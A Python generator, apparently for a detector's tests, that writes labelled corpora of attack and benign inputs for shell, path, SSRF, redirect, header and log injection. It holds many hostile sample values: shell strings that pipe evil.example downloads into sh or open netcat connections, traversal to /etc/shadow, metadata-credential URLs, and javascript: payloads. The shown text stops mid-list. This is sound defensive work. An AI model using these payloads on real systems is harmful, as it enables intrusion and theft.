#!/usr/bin/env python3
"""Writes the project's own labelled corpora for the non-SQL injection classes.

Each class has hand-written sink templates (how real applications place an
input: quoted or not, under a root or as a whole path, in a URL's host, path
or query, in a header or cookie value, a log line, an HTML text node or
attribute) and hand-written inputs, each labelled by the class's rule in
README.md, never by what a detector says. The output is deterministic: run

    python3 tests/corpus/generate.py

from anywhere and it rewrites tests/corpus/<class>.jsonl next to this file.
Standard library only.
"""

import hashlib
import html
import json
import shlex
import sys
import urllib.parse
from pathlib import Path

HERE = Path(__file__).resolve().parent


class Corpus:
    """Cases of one class, in insertion order, unique by template and input."""

    def __init__(self, name):
        self.name = name
        self.cases = []
        self.seen = {}

    def add(self, template, input_, attack, *tags):
        """Adds one case: `template` is the sink text with `input_` placed in it."""
        digest = hashlib.sha1((template + input_).encode("utf-8")).hexdigest()[:10]
        key = f"{self.name}-own-{digest}"
        if key in self.seen:
            if self.seen[key] != attack:
                raise SystemExit(f"{key}: one case labelled both ways: {template!r}")
            return
        self.seen[key] = attack
        self.cases.append(
            {
                "id": key,
                "class": self.name,
                "template": template,
                "input": input_,
                "attack": attack,
                "tags": list(tags),
            }
        )

    def place(self, templates, inputs, attack, *tags):
        """Places the inputs into the templates in turn (input i into template i mod n)."""
        for i, (value, *extra) in enumerate(inputs):
            template = templates[i % len(templates)]
            self.add(template.replace("{}", value), value, attack, *tags, *extra)

    def place_all(self, templates, inputs, attack, *tags):
        """Places every input into every template."""
        for template in templates:
            for value, *extra in inputs:
                self.add(template.replace("{}", value), value, attack, *tags, *extra)

    def write(self):
        path = HERE / f"{self.name}.jsonl"
        with open(path, "w", encoding="utf-8", newline="\n") as out:
            for case in self.cases:
                line = json.dumps(case, ensure_ascii=False)
                # Line and paragraph separators stay escaped so that every
                # line-oriented reader sees one case per line.
                for ch in ("\u0085", "\u2028", "\u2029"):
                    line = line.replace(ch, f"\\u{ord(ch):04x}")
                out.write(line + "\n")
        attacks = sum(c["attack"] for c in self.cases)
        print(
            f"{path.name}: {len(self.cases)} cases, {attacks} attacks, "
            f"{len(self.cases) - attacks} benign"
        )


def one(*values):
    """Inputs without extra tags."""
    return [(v,) for v in values]


# --------------------------------------------------------------------- shell


def shell():
    c = Corpus("shell")
    unquoted = [
        "convert {} -resize 200x200 /tmp/thumb.png",
        "ping -c 1 -W 2 {}",
    ]
    single = [
        "grep -rn '{}' /var/log/app",
        "echo '{}' >> /var/spool/notes/today.txt",
    ]
    double = [
        'ffmpeg -i "{}" -vn -acodec copy /tmp/out.m4a',
        'git commit -q -m "{}"',
    ]
    c.place(
        unquoted,
        [
            ("photo.jpg; id", "semicolon"),
            ("x;id", "semicolon"),
            ("8.8.8.8 && cat /etc/passwd", "and"),
            ("a || curl -s http://evil.example/s | sh", "or"),
            ("x | nc evil.example 4444", "pipe"),
            ("$(whoami)", "substitution"),
            ("`id`", "backtick"),
            ("x$(id)", "substitution"),
            ("a`reboot`", "backtick"),
            ("x > /var/www/html/shell.php", "redirection"),
            ("x</etc/passwd", "redirection"),
            ("x 2>/dev/null", "redirection"),
            ("photo.jpg\nid", "newline"),
            ("x & sleep 10", "background"),
            ("8.8.8.8;cat${IFS}/etc/passwd", "semicolon"),
            ("example.com -c 100000", "extra-word"),
            ("holiday photo.jpg", "extra-word"),
            ("x\t-delete", "extra-word"),
            ("<(id)", "redirection"),
            ("a;b", "semicolon"),
        ],
        True,
        "unquoted",
    )
    c.place(
        unquoted,
        [
            ("photo.jpg",),
            ("IMG_2026-11-29_0915.png",),
            ("8.8.8.8",),
            ("example.com",),
            ("alice@example.com",),
            ("v1.2.3",),
            ("café.png", "unicode"),
            ("report_final-v2.pdf",),
            ("a,b,c",),
            ("key=value",),
            ("50%",),
            ("x+y",),
            ("日本語.txt", "unicode"),
            ("2026-11-29",),
            ("192.168.1.10",),
            ("host:8080",),
        ],
        False,
        "unquoted",
    )
    c.place(
        unquoted,
        [
            ("a&&b", "and"),
            ("photo.jpg;", "semicolon"),
            ("|id", "pipe"),
            (">/tmp/x", "redirection"),
        ],
        True,
        "unquoted",
    )
    # A backslash makes the next character literal: still one word.
    c.place(
        unquoted,
        [("a\\;b.jpg", "backslash-escaped"), ("holiday\\ photo.jpg", "backslash-escaped")],
        False,
        "unquoted",
    )
    c.add("git log --oneline --author=alice", "alice", False, "unquoted", "in-word")
    c.add(
        "git log --oneline --author=bob@example.com",
        "bob@example.com",
        False,
        "unquoted",
        "in-word",
    )
    c.add("git log --oneline --author=alice; id", "alice; id", True, "unquoted", "in-word")
    c.add("git log --oneline --author=x$(id)", "x$(id)", True, "unquoted", "in-word")
    c.add(
        "tar -czf /backups/nightly-2026-11-29.tar.gz /srv/data",
        "nightly-2026-11-29",
        False,
        "unquoted",
        "in-word",
    )
    c.add(
        "tar -czf /backups/x; rm -rf /srv.tar.gz /srv/data",
        "x; rm -rf /srv",
        True,
        "unquoted",
        "in-word",
    )

    c.place(
        single,
        [
            ("x'; id; echo '", "quote-break"),
            ("'$(id)'", "quote-break"),
            ("it'; cat /etc/passwd #", "quote-break"),
            ("x' | nc evil.example 4444 #", "quote-break"),
            ("'`id`'", "quote-break"),
            ("a' 'b", "quote-break", "extra-word"),
            ("x'\nid\n'", "quote-break", "newline"),
        ],
        True,
        "single-quoted",
    )
    c.place(
        single,
        [
            ("$(id)",),
            ("`id`",),
            ("a; b && c | d",),
            ("hello world",),
            ("Total: $19.99", "dollar"),
            ("50% > 40%",),
            ('"double quoted"',),
            ("tab\there",),
            ("line one\nline two", "newline"),
            ("ERROR [db] timeout",),
            ("Zoë Ødegård", "unicode"),
            ("a\\b",),
            # Closes the quote, adds an escaped quote, reopens: one word.
            ("'\\''", "quote-dance"),
        ],
        False,
        "single-quoted",
    )

    c.place(
        double,
        [
            ("$(id)", "substitution"),
            ("`id`", "backtick"),
            ('x"; id; "', "quote-break"),
            ('x" && curl -s evil.example | sh && echo "', "quote-break"),
            ("a$(curl -s evil.example/x|sh)", "substitution"),
            ('"; rm -rf ~; "', "quote-break"),
            ('x"\nid\n"', "quote-break", "newline"),
            ('a" "b', "quote-break", "extra-word"),
            # The quotes close and reopen around an unquoted space: two words.
            ('fix "foo bar" baz', "quote-break", "extra-word"),
        ],
        True,
        "double-quoted",
    )
    c.place(
        double,
        [
            ("John Smith",),
            ("fix: handle a;b | c && d",),
            ("O'Brien's song.m4a", "apostrophe"),
            ("track 01 (live).m4a",),
            ("50% off & free shipping",),
            ("x > y",),
            ("first line\nsecond line", "newline"),
            ("naïve café ☕", "unicode"),
            ("it's done",),
            ("a|b",),
            ("semi;colon;list",),
            ("#123 closes bug",),
            ("\\$(id)", "backslash-escaped"),
            ("\\`id\\`", "backslash-escaped"),
            # The quotes close and reopen with nothing unquoted but a word.
            ('fix "foo" bug', "quote-reopen"),
        ],
        False,
        "double-quoted",
    )

    # The application quoted the input itself (Python's shlex.quote, Rust's
    # shell-escape): an input with a quote no longer appears raw.
    quoted = ["convert {} -resize 200x200 /tmp/thumb.png", "ping -c 1 -W 2 {}"]
    for i, value in enumerate(
        [
            "O'Brien.jpg",
            "x; id",
            "$(id)",
            "holiday photo.jpg",
            "it's; rm -rf /",
            "`id`",
            "a && b",
            "x'; id; echo '",
            "Total $5",
            "x | nc evil.example 4444",
            "line\nbreak",
            "'",
        ]
    ):
        template = quoted[i % len(quoted)]
        c.add(template.replace("{}", shlex.quote(value)), value, False, "shell-quoted")

    # Programs that run an argument: the input is the command a wrapper
    # runs, or code an interpreter runs. Quoting does not make it data.
    wrapped = [
        ("timeout 5 {} /srv/data", "id"),
        ("nice -n 10 {} /srv/data", "rm"),
        ("env LANG=C {} -la", "/tmp/x.sh"),
        ("xargs -0 {} < /tmp/list", "sh"),
        ("sudo -u app {} /srv", "bash"),
        ("find /srv -type f -exec {} ';'", "rm"),
        ("nohup {} &", "/tmp/payload"),
        ("stdbuf -oL {} /var/log/app.log", "id"),
        ("timeout -s KILL 5 nice {} x", "reboot"),
    ]
    for template, value in wrapped:
        c.add(template.replace("{}", value), value, True, "unquoted", "wrapper")
    interpreted = [
        ("python3 -c {}", 'print(open("/etc/passwd").read())'),
        ("perl -e {}", 'system("id")'),
        ("awk {} /etc/hosts", 'BEGIN{system("id")}'),
        ("node -e {}", 'require("child_process").execSync("id")'),
        ("tar -cf /tmp/a.tar --checkpoint=1 --checkpoint-action=exec={} /srv", "id"),
        ("ssh backup.example {}", "rm -rf /srv"),
        ("sh -c {}", "id"),
    ]
    for template, value in interpreted:
        c.add(template.replace("{}", shlex.quote(value)), value, True, "shell-quoted", "interpreter")
    # An input that starts an argument with `-` is an option, quoted or not.
    for template, value in [
        ("sort {} /srv/data", "-o/etc/cron.d/job"),
        ("ls {}", "--help"),
        ("curl -s {}", "--output=/tmp/x"),
        ("tar {} /srv", "xvf"),
    ]:
        c.add(template.replace("{}", value), value, True, "unquoted", "option")
        c.add(template.replace("{}", shlex.quote(value)), value, True, "shell-quoted", "option")
    # The same values as data of the same programs.
    for template, value in [
        ("timeout 5 grep -- {} /srv/data", "id"),
        ("timeout 5 grep -F -- {} /srv/data", "-x"),
        ("find /srv -name {}", "report.txt"),
        ("python3 /opt/app/report.py {}", "q3-2026"),
        ("python3 -c 'import sys; print(sys.argv[1])' {}", "alice"),
        ("awk -F, '{print $2}' {}", "data.csv"),
        ("nice -n 10 gzip -k {}", "backup.tar"),
        ("tar -czf /backups/out.tgz -- {}", "-rf"),
        ("ls -- {}", "--help"),
        ("ssh -p 22 {} uptime", "backup.example"),
        ("env LANG=C sort {}", "names.txt"),
        ("xargs -0 rm -- {}", "old.log"),
    ]:
        c.add(template.replace("{}", value), value, False, "unquoted", "data-operand")
    return c


# ---------------------------------------------------------------------- path


def path():
    c = Corpus("path")
    roots = [
        "/var/www/uploads/{}",
        "/srv/app/data/users/42/{}",
        "static/{}",
        "/home/app/reports/{}.pdf",
    ]
    c.place(
        roots,
        [
            ("../../../etc/passwd", "dotdot"),
            ("../config/secrets.yml", "dotdot"),
            ("..", "dotdot"),
            ("../", "dotdot"),
            ("foo/../../etc/passwd", "dotdot"),
            ("a/b/../../../x", "dotdot"),
            ("./../.env", "dotdot"),
            ("../../../../../../../../etc/shadow", "dotdot"),
            ("..//..//etc/passwd", "dotdot"),
            ("../../.ssh/id_rsa", "dotdot"),
            ("report.pdf\x00.png", "nul"),
            ("../../../etc/passwd\x00", "dotdot", "nul"),
            ("invoice\x00", "nul"),
            ("sub/./../../app.py", "dotdot"),
            ("../42/../../43/secret.txt", "dotdot"),
            ("../../../../proc/self/environ", "dotdot"),
            ("sub/../..", "dotdot"),
            ("x/../../../../var/lib/app.db", "dotdot"),
        ],
        True,
        "under-root",
    )
    c.place(
        roots,
        [
            ("avatar.png",),
            ("v1..v2.txt", "dots"),
            ("..foo", "dots"),
            ("foo..", "dots"),
            ("file...txt", "dots"),
            ("a;b.docx",),
            ("report (1).pdf",),
            ("2026/11/29/photo.jpg",),
            ("sub/../x.txt", "dotdot-inside"),
            ("a/b/../c.txt", "dotdot-inside"),
            ("a/b/../../c.txt", "dotdot-inside"),
            ("./photo.png",),
            ("my file.txt",),
            ("naïve café.txt", "unicode"),
            ("日本語/ファイル.txt", "unicode"),
            ("a//b.txt", "double-slash"),
            ("~alice",),
            ("$HOME.txt",),
            ("....//....//etc/passwd", "dots"),
            ("%2e%2e%2f%2e%2e%2fetc%2fpasswd", "literal-percent"),
            ("/etc/passwd", "double-slash"),
            (".well-known/security.txt",),
            ("O'Brien CV.pdf", "apostrophe"),
            ("Q3 results: $1.2M.xlsx",),
            ("sub/..", "dotdot-inside"),
            ("./.", "dots"),
            ("..;/..;/etc/passwd", "dots"),
            ("‥/‥/etc/passwd", "lookalike-dots"),
            ("．．/．．/etc/passwd", "lookalike-dots"),
            (".../...", "dots"),
        ],
        False,
        "under-root",
    )
    # The benign `/etc/passwd` above was concatenated after the root's slash
    # and stays inside it; a join that lets an absolute input replace the root
    # leaves the input alone as the path.
    win = ["C:\\app\\uploads\\{}"]
    c.place(
        win,
        [
            ("..\\..\\Windows\\win.ini", "dotdot", "windows"),
            ("..\\..\\..\\boot.ini", "dotdot", "windows"),
            ("../../Windows/System32/config/SAM", "dotdot", "windows"),
            ("sub\\..\\..\\..\\x.txt", "dotdot", "windows"),
            ("report.docx\x00.png", "nul", "windows"),
        ],
        True,
        "under-root",
    )
    c.place(
        win,
        [
            ("report.docx", "windows"),
            ("2026\\q3.xlsx", "windows"),
            ("sub\\..\\x.txt", "dotdot-inside", "windows"),
            ("a;b.docx", "windows"),
            ("v1..v2.txt", "dots", "windows"),
        ],
        False,
        "under-root",
    )
    whole = ["{}"]
    c.place(
        whole,
        [
            ("/etc/passwd", "absolute"),
            ("/proc/self/environ", "absolute"),
            ("../../etc/passwd", "dotdot"),
            ("//etc/passwd", "absolute"),
            ("uploads/../../etc/passwd", "dotdot"),
            ("notes.txt\x00.jpg", "nul"),
            ("C:\\Windows\\System32\\drivers\\etc\\hosts", "drive"),
            ("C:/Windows/win.ini", "drive"),
            ("\\\\evil.example\\share\\payload.dll", "unc"),
            ("\\\\?\\C:\\Windows\\win.ini", "unc"),
            ("/root/.ssh/authorized_keys", "absolute"),
            ("..", "dotdot"),
            ("\\\\.\\PhysicalDrive0", "unc"),
            ("D:\\backup\\db.bak", "drive"),
        ],
        True,
        "whole-path",
    )
    c.place(
        whole,
        [
            ("reports/2026/q3.csv",),
            ("notes.txt",),
            ("a/./b.txt",),
            ("docs/v1..v2.diff", "dots"),
            ("..hidden", "dots"),
            ("sub/../x.txt", "dotdot-inside"),
            (".config/app.toml",),
            ("résumé final.pdf", "unicode"),
            ("a//b/c.txt", "double-slash"),
            ("2026-11-29.log",),
        ],
        False,
        "whole-path",
    )
    c.add("docs/index.html", "docs", False, "path-start")
    c.add("../../etc/index.html", "../../etc", True, "path-start", "dotdot")
    c.add("/etc/index.html", "/etc", True, "path-start", "absolute")
    return c


# ---------------------------------------------------------------------- ssrf


def ssrf():
    c = Corpus("ssrf")
    full = ["{}"]
    c.place(
        full,
        [
            ("http://127.0.0.1/admin", "loopback"),
            ("http://localhost:6379/", "loopback"),
            ("http://LOCALHOST/", "loopback"),
            ("http://localhost./server-status", "loopback"),
            ("http://[::1]/", "loopback", "ipv6"),
            ("http://2130706433/", "loopback", "decimal"),
            ("http://0177.0.0.1/", "loopback", "octal"),
            ("http://0x7f000001/", "loopback", "hex"),
            ("http://0x7f.0.0.1/", "loopback", "hex"),
            ("http://127.1/", "loopback", "short"),
            ("http://017700000001/", "loopback", "octal"),
            ("http://[::ffff:127.0.0.1]/", "loopback", "mapped"),
            ("http://[::ffff:7f00:1]/", "loopback", "mapped"),
            ("http://[64:ff9b::7f00:1]/", "loopback", "nat64"),
            ("http://169.254.169.254/latest/meta-data/iam/security-credentials/", "metadata"),
            ("http://metadata.google.internal/computeMetadata/v1/", "metadata"),
            ("http://[fd00:ec2::254]/latest/meta-data/", "metadata", "ipv6"),
            ("http://0xa9fea9fe/latest/meta-data/", "metadata", "hex"),
            ("http://[::ffff:a9fe:a9fe]/", "metadata", "mapped"),
            ("http://10.0.0.5:8080/actuator/env", "private"),
            ("http://172.16.3.4/", "private"),
            ("http://172.31.255.254/", "private"),
            ("http://192.168.0.1/cgi-bin/luci", "private"),
            ("http://100.64.0.1/", "cgnat"),
            ("http://0.0.0.0:8000/", "unspecified"),
            ("http://0/", "unspecified"),
            ("http://[::]/", "unspecified", "ipv6"),
            ("http://[fe80::1]/", "link-local", "ipv6"),
            ("http://169.254.10.20/", "link-local"),
            ("http://[fc00::1]/", "unique-local", "ipv6"),
            ("http://example.com@127.0.0.1/", "userinfo"),
            ("http://a@127.0.0.1:22/", "userinfo"),
            ("http://127.0.0.1#@example.com/", "fragment-trick"),
            ("http://127.0.0.1:80?@example.com/", "query-trick"),
            ("file:///etc/passwd", "scheme"),
            ("FILE:///etc/passwd", "scheme"),
            ("file://localhost/etc/passwd", "scheme"),
            ("file:///C:/Windows/win.ini", "scheme"),
            ("gopher://127.0.0.1:6379/_FLUSHALL%0d%0a", "scheme"),
            ("dict://127.0.0.1:11211/stats", "scheme"),
            ("ftp://10.0.0.3/pub/", "scheme"),
            ("ldap://127.0.0.1:389/", "scheme"),
            ("http://[0:0:0:0:0:0:0:1]/", "loopback", "ipv6"),
            ("http://127.000.000.001/", "loopback", "octal"),
            ("http://127.0.0.1./", "loopback"),
            ("http://0x7f.1/", "loopback", "hex"),
            ("http://[::ffff:169.254.169.254]/", "metadata", "mapped"),
            ("http://[0:0:0:0:0:ffff:127.0.0.1]/", "loopback", "mapped"),
            ("http://[::ffff:c0a8:101]/", "private", "mapped"),
            ("http://2852039166/latest/meta-data/", "metadata", "decimal"),
            ("http://127.127.127.127/", "loopback"),
            ("http://[fdff:ffff::1]/", "unique-local", "ipv6"),
            ("http://100.127.255.254/", "cgnat"),
            ("http://ⓛⓞⓒⓐⓛⓗⓞⓢⓣ/", "loopback", "idna"),
            ("http://１２７.０.０.１/", "loopback", "idna"),
            ("http://127.0.0.1\\@example.com/", "loopback", "backslash"),
            ("http://%31%32%37.0.0.1/", "loopback", "percent-host"),
            ("http://0x7F000001/", "loopback", "hex"),
        ],
        True,
        "full-url",
    )
    c.place(
        full,
        [
            ("https://example.com/webhook",),
            ("https://hooks.slack.com/services/T00000000/B00000000/XXXXXXXXXXXX",),
            ("https://api.github.com/repos/rust-lang/rust",),
            ("https://example.com/callback?redirect=http://localhost:3000/", "localhost-in-query"),
            ("https://example.org/?target=127.0.0.1", "ip-in-query"),
            ("https://example.com/localhost/admin", "localhost-in-path"),
            ("http://93.184.216.34/",),
            ("https://8.8.8.8/dns-query",),
            ("https://[2606:4700:4700::1111]/dns-query", "ipv6"),
            ("http://[2001:4860:4860::8888]/", "ipv6"),
            ("http://172.32.0.1/", "near-private"),
            ("http://172.15.255.1/", "near-private"),
            ("http://192.169.1.1/", "near-private"),
            ("http://100.128.0.1/", "near-private"),
            ("http://11.0.0.1/", "near-private"),
            ("http://[64:ff9b::808:808]/", "nat64"),
            ("http://[::ffff:8.8.8.8]/", "mapped"),
            ("https://user:pass@example.com/hook", "userinfo"),
            ("https://example.com#@127.0.0.1", "fragment-trick"),
            ("https://example.com/a//b",),
            ("https://example.com:8443/hook",),
            ("https://münchen.example/", "unicode"),
            ("HTTPS://EXAMPLE.COM/",),
            ("https://10.example.com/", "numeric-label"),
            ("https://cdn.example.net/img/a.png?w=200&h=200",),
            ("ftp://ftp.example.org/pub/file.tar.gz", "scheme"),
            ("http://127.0.0.1:8080@example.com/", "userinfo-trick"),
            ("https://localhost@example.com/", "userinfo-trick"),
            ("http://1.2.3.4:80/",),
            ("http://[2001:db8::1]/", "ipv6"),
            ("https://example.com/?url=http%3A%2F%2F169.254.169.254%2F", "ip-in-query"),
            ("http://128.0.0.1/", "near-private"),
            ("http://[fe00::1]/", "near-private", "ipv6"),
            ("https://example.com/?callback=file:///etc/passwd", "scheme-in-query"),
            ("https://file.example.com/report.pdf", "scheme-lookalike"),
            ("https://gopher.example.org/", "scheme-lookalike"),
            ("https://dict.example.org/?q=hello", "scheme-lookalike"),
        ],
        False,
        "full-url",
    )
    hosts = ["https://{}/api/status", "http://{}:8080/health"]
    c.place(
        hosts,
        [
            ("127.0.0.1", "loopback"),
            ("127.1", "loopback", "short"),
            ("localhost", "loopback"),
            ("0", "unspecified"),
            ("169.254.169.254", "metadata"),
            ("[::]", "unspecified"),
            ("[::1]", "loopback"),
            ("100.64.12.3", "cgnat"),
            ("10.0.0.12", "private"),
            ("172.20.0.5", "private"),
            ("2130706433", "loopback", "decimal"),
            ("[::ffff:10.0.0.1]", "private", "mapped"),
            ("0177.1", "loopback", "octal"),
            ("192.168.1.1", "private"),
            ("metadata.google.internal", "metadata"),
            ("[fd00:ec2::254]", "metadata"),
            ("example.com@127.0.0.1", "userinfo"),
            ("127.0.0.1:22#", "loopback"),
            ("0x7f.1", "loopback", "hex"),
            ("[::ffff:127.0.0.1]", "loopback", "mapped"),
        ],
        True,
        "host",
    )
    c.place(
        hosts,
        [
            ("api.partner.com",),
            ("status.example.net",),
            ("8.8.8.8",),
            ("52.95.110.1",),
            ("hooks.example.org",),
            ("172.32.1.1", "near-private"),
            ("192.169.0.1", "near-private"),
            ("100.128.0.1", "near-private"),
            ("169.254.example.com", "numeric-label"),
            ("1.1.1.1",),
            ("example.com:8443",),
            ("[2606:4700:4700::1111]", "ipv6"),
        ],
        False,
        "host",
    )
    fixed = ["https://api.example.com{}"]
    c.place(
        fixed,
        [
            ("@evil.example/", "authority"),
            ("@127.0.0.1/admin", "authority", "loopback"),
            (".evil.example/", "authority"),
            (":6379/", "authority"),
            ("@169.254.169.254/latest/meta-data/", "authority", "metadata"),
        ],
        True,
        "fixed-host",
    )
    c.place(
        fixed,
        [
            ("/v1/users/42",),
            ("/v1/search?q=localhost", "localhost-in-query"),
            ("/v1/items?url=http://127.0.0.1", "ip-in-query"),
            ("/v1/a//b",),
            ("/v1/users/@me",),
        ],
        False,
        "fixed-host",
    )
    segment = ["https://api.example.com/v1/users/{}/profile"]
    c.place(
        segment,
        one("42", "alice", "127.0.0.1", "@evil.example", "..%2f..%2fadmin", "localhost", "a b"),
        False,
        "path-segment",
    )
    query = ["https://api.example.com/v1/search?q={}&limit=10"]
    c.place(
        query,
        one(
            "http://127.0.0.1/",
            "localhost",
            "169.254.169.254",
            "@evil.example",
            "rust async",
            "file:///etc/passwd",
        ),
        False,
        "query-value",
    )
    # Percent-encoded by the application: the input does not appear raw.
    for value in [
        "http://169.254.169.254/latest/meta-data/",
        "http://127.0.0.1:6379/",
        "https://example.com/a?b=c",
        "file:///etc/passwd",
    ]:
        encoded = urllib.parse.quote(value, safe="")
        c.add(f"https://api.example.com/v1/fetch?url={encoded}", value, False, "percent-encoded")
    return c


# ------------------------------------------------------------------ redirect


def redirect():
    c = Corpus("redirect")
    full = ["{}"]
    c.place(
        full,
        [
            ("https://evil.example/login", "absolute"),
            ("http://evil.example", "absolute"),
            ("HTTPS://EVIL.EXAMPLE/", "absolute"),
            ("//evil.example", "scheme-relative"),
            ("//evil.example/%2f..", "scheme-relative"),
            ("///evil.example", "scheme-relative"),
            ("/\\evil.example", "backslash"),
            ("\\\\evil.example", "backslash"),
            ("\\/evil.example", "backslash"),
            ("\t//evil.example", "leading-control"),
            (" //evil.example", "leading-control"),
            ("\n//evil.example", "leading-control"),
            ("\x01//evil.example", "leading-control"),
            ("/\t/evil.example", "tab"),
            ("javascript:alert(document.domain)", "javascript"),
            ("JAVASCRIPT:alert(1)", "javascript"),
            ("java\nscript:alert(1)", "javascript"),
            (" javascript:alert(1)", "javascript"),
            ("data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", "data"),
            ("https://shop.example.com@evil.example/", "userinfo"),
            ("https://shop.example.com.evil.example/", "absolute"),
            ("https:/\\evil.example", "backslash"),
            ("https://evil.example\\@shop.example.com", "backslash"),
            ("https:\\\\evil.example", "backslash"),
            ("/\\/evil.example", "backslash"),
            ("//evil%2eexample", "scheme-relative"),
            ("//127.0.0.1", "scheme-relative"),
            ("//evil.example:443/x", "scheme-relative"),
            ("\t\t//evil.example", "leading-control"),
            ("DATA:text/html,<script>alert(1)</script>", "data"),
            ("\x00//evil.example", "leading-control"),
            ("//evil.example\\@shop.example.com", "backslash"),
            ("javascript\t:alert(1)", "javascript"),
            ("\x0b//evil.example", "leading-control"),
        ],
        True,
        "full",
    )
    c.place(
        full,
        [
            ("/dashboard",),
            ("/items/42",),
            ("/search?q=http%3A%2F%2Fx", "url-in-query"),
            ("/search?q=https://evil.example", "url-in-query"),
            ("/account/settings#billing",),
            ("?page=2",),
            ("#top",),
            ("orders/2026/11",),
            ("/@evil.example", "at-path"),
            ("/café", "unicode"),
            ("/a/b;c=d",),
            ("/path/with//double", "double-slash"),
            ("/en/",),
            ("/login?next=//evil.example", "url-in-query"),
            ("/files/report%20(1).pdf",),
            ("https://shop.example.com/account", "same-site-absolute"),
            ("/%2f%2fevil.example", "encoded-slash"),
            ("/.evil.example",),
            ("./evil.example",),
            ("evil.example/login", "relative-host-lookalike"),
            ("%09//evil.example", "encoded-tab"),
            ("/redirect?to=https://evil.example", "url-in-query"),
            ("#//evil.example", "fragment"),
            ("/%5Cevil.example", "encoded-backslash"),
            ("/login?next=/\\evil.example", "url-in-query"),
        ],
        False,
        "full",
    )
    slash = ["/{}"]
    c.place(
        slash,
        [
            ("/evil.example", "scheme-relative"),
            ("\\evil.example", "backslash"),
            ("/\\evil.example", "backslash"),
            ("\t/evil.example", "tab"),
        ],
        True,
        "after-slash",
    )
    c.place(
        slash,
        [
            ("dashboard",),
            ("items/42?tab=reviews",),
            ("@evil.example", "at-path"),
            ("evil.example",),
            ("https://evil.example", "url-in-path"),
            ("javascript:alert(1)", "url-in-path"),
        ],
        False,
        "after-slash",
    )
    c.place(
        ["/files/{}"],
        one("a//b", "//evil.example", "report.pdf", "https://evil.example", "\\\\evil.example"),
        False,
        "after-segment",
    )
    c.place(
        ["/login?next={}"],
        one("https://evil.example/", "//evil.example", "javascript:alert(1)", "/account"),
        False,
        "query-value",
    )
    c.place(
        ["https://shop.example.com/{}"],
        one("//evil.example", "@evil.example", "\\\\evil.example", "account?tab=orders"),
        False,
        "fixed-base",
    )
    concat = ["https://shop.example.com{}"]
    c.place(
        concat,
        [
            ("@evil.example", "userinfo"),
            (".evil.example/", "authority"),
            (":443@evil.example/", "userinfo"),
        ],
        True,
        "fixed-host",
    )
    c.place(concat, one("/account", "/search?q=//evil.example", "/a//b"), False, "fixed-host")
    for value in [
        "https://evil.example/",
        "//evil.example",
        "javascript:alert(1)",
        "/\\evil.example",
    ]:
        encoded = urllib.parse.quote(value, safe="")
        c.add(f"/login?next={encoded}", value, False, "percent-encoded")
    # A line break ends the `Location` header wherever it lands, relative
    # targets included; percent-encoded it is data.
    for value in [
        "/account\r\nSet-Cookie: session=evil",
        "/account\nLocation: https://evil.example/",
        "/a\rb",
        "/items/42\x00",
    ]:
        c.add(value, value, True, "full", "crlf")
        c.add(f"/search?q={value}", value, True, "query-value", "crlf")
    for value in ["%0D%0ASet-Cookie:%20session=evil", "a%0Ab"]:
        c.add(f"/search?q={value}", value, False, "query-value", "percent-encoded")
    return c


# -------------------------------------------------------------------- header


def header():
    c = Corpus("header")
    values = [
        'attachment; filename="{}"',
        "{}",
        "/search?q={}",
    ]
    c.place_all(
        values,
        [
            ("x\r\nSet-Cookie: admin=1", "crlf"),
            ("en\r\nLocation: https://evil.example/", "crlf"),
            ("a\r\n\r\n<html><script>alert(1)</script></html>", "crlf", "splitting"),
            ("x\nX-Injected: 1", "lf"),
            ("x\rX-Injected: 1", "cr"),
            ("report\x00.pdf", "nul"),
            ("a\x0bb", "control"),
            ("a\x0cb", "control"),
            ("\x1b[31mred", "control"),
            ("x\x08", "control"),
            ("q\x01", "control"),
            ("abc\r\n", "crlf"),
            ("\nContent-Length: 0", "lf"),
            ("x\x1f", "control"),
            ("\r", "cr"),
            ("a\x1bb", "control"),
        ],
        True,
        "value",
    )
    c.place_all(
        values,
        [
            ("q3\treport.pdf", "tab"),
            ("Müller Jahresbericht.pdf", "unicode"),
            ("a;b.docx", "semicolon"),
            ("en-US,en;q=0.9", "semicolon"),
            ("YWJjZA==", "equals"),
            ("%0d%0aSet-Cookie:%20admin=1", "percent-text"),
            ("O'Brien \"draft\".txt",),
            ("report\\r\\n.txt", "backslash-text"),
            ("嘊.txt", "unicode"),
            ("naïve café", "unicode"),
            ("2026-11-29",),
            ("$19.99",),
            ("a=b=c", "equals"),
            ("a\u2028b", "unicode"),
            ("550e8400-e29b-41d4-a716-446655440000",),
            ("Set-Cookie: admin=1", "no-break"),
            ("\u560d\u560a", "unicode"),
            ("👨\u200d👩\u200d👧.jpg", "unicode"),
            ("a\u0085b", "c1"),
        ],
        False,
        "value",
    )
    cookies = ["lang={}; Path=/; HttpOnly", "theme={}; Path=/; Secure; SameSite=Lax"]
    c.place_all(
        cookies,
        [
            ("en; Domain=shop.example", "cookie-attribute"),
            ("en;Path=/admin", "cookie-attribute"),
            ("dark; Max-Age=315360000", "cookie-attribute"),
            ("x, admin=1", "cookie-comma"),
            ("en; SameSite=None; Secure", "cookie-attribute"),
            ("a,b", "cookie-comma"),
            ("en\r\nSet-Cookie: admin=1", "crlf"),
            ("dark\x00", "nul"),
            (";", "cookie-attribute"),
        ],
        True,
        "set-cookie",
    )
    c.place_all(
        cookies,
        [
            ("en-GB",),
            ("dark_mode",),
            ("YWJjZA==", "equals"),
            ("fr",),
            ("eyJ1aWQiOjQyfQ",),
            ("a=b", "equals"),
            ("%3B%20Domain%3Devil.example", "percent-text"),
            ("pt-BR",),
            ("café", "unicode"),
            ("high\tcontrast", "tab"),
        ],
        False,
        "set-cookie",
    )
    return c


# ----------------------------------------------------------------------- log


def log():
    c = Corpus("log")
    lines = [
        ("2026-11-29T10:00:00Z INFO user login name={}", "line-end"),
        ('2026-11-29T10:00:00Z WARN login failed user="{}" ip=203.0.113.7', "quoted-field"),
        ("2026-11-29T10:00:00Z INFO search q={} results=12", "mid-line"),
    ]
    attacks = (
        [
            ("bob\n2026-11-29T10:00:01Z INFO user login name=admin", "lf", "forged-line"),
            ("bob\r\n2026-11-29T10:00:01Z INFO user login name=admin", "crlf", "forged-line"),
            ("bob\rINFO admin login ok", "cr"),
            ("x\n", "lf"),
            ("\x1b[2J\x1b[H", "ansi"),
            ("\x1b[1A\x1b[2Kadmin", "ansi"),
            ("\x1b]0;pwned\x07", "osc"),
            ("\x1b]8;;https://evil.example\x07click\x1b]8;;\x07", "osc"),
            ("\x1b[31mERROR\x1b[0m", "ansi"),
            ("bob\x08\x08\x08adm", "backspace"),
